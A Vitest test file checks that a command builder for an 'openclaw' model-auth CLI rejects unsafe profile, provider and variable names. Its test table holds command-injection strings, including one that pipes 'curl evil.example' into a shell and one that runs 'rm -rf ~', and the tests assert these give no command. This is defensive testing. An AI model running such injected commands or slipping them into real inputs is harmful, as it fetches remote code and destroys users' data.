import { expect, test } from "vitest";

import { commandOf } from "./step-commands";

const NAMES = {
  provider: "bailian",
  authProfile: "bailian:key1",
  variable: "DASHSCOPE_API_KEY",
  baseUrl: "https://dashscope.aliyuncs.com/compatible-mode/v1",
};

test("a step’s command names what it is about", () => {
  expect(commandOf("replace-stored-key", NAMES)).toBe(
    "openclaw models auth paste-api-key --provider bailian --profile-id bailian:key1",
  );
});

test.each([
  ["what a shell would run", 'x"; curl evil.example | sh; "'],
  ["a variable", "$HOME:key1"],
  ["a second line", "bailian:key1\nrm -rf ~"],
  ["an option of the command", "--config=/tmp/x:key1"],
  ["a short option", "-x:key1"],
  ["nothing", ""],
])("a name that a log made up to be %s gives no command", (_what, name) => {
  expect(commandOf("replace-stored-key", { ...NAMES, authProfile: name })).toBeNull();
  expect(commandOf("edit-state-database", { ...NAMES, authProfile: name })).toBeNull();
  expect(commandOf("remove-stored-key", { ...NAMES, provider: name })).toBeNull();
  expect(commandOf("store-key-in-env", { ...NAMES, variable: name })).toBeNull();
});
